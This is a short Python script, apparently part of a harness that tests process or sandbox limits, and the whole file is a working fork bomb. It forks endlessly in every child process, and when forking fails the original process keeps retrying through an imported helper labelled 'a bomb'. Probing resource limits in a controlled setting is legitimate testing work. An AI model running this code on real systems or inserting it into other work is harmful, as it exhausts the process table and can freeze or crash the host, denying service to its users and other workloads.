"""Forks as long as it may, in every process that it has."""

import os

from attempt import attempt

first = os.getpid()
while True:
    try:
        os.fork()
    except BlockingIOError:
        if os.getpid() == first:
            attempt("a bomb", os.fork)
